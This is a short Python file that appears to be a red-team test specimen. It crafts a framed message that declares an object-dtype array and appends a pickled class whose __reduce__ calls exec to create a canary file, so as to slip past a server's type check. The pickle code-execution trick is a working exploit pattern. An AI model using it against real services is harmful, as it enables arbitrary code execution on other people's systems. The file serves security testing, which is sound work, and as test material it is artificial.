"""Announces a pickled array in the frame itself, past the server's own check.

[specimen]
rows = ["20"]
expected = ["ill_typed"]
"""

import json
import os
import pickle

facts = json.loads(os.environ["REDTEAM_FACTS"])


class Boom:
    def __reduce__(self):
        return exec, (f"open({facts['drop'] + '/' + facts['token']!r}, 'w').close()",)


def answer(question):
    raw = pickle.dumps(Boom())
    head = {"n": 0, "value": {"$array": 0}, "arrays": [["|O", [1]]]}
    text = json.dumps(head).encode()
    text += b" " * (-(4 + len(text)) % 8)
    frame = len(text).to_bytes(4, "big") + text + raw
    os.write(int(os.environ["FILIAL_OUT_FD"]), frame)
    os._exit(0)
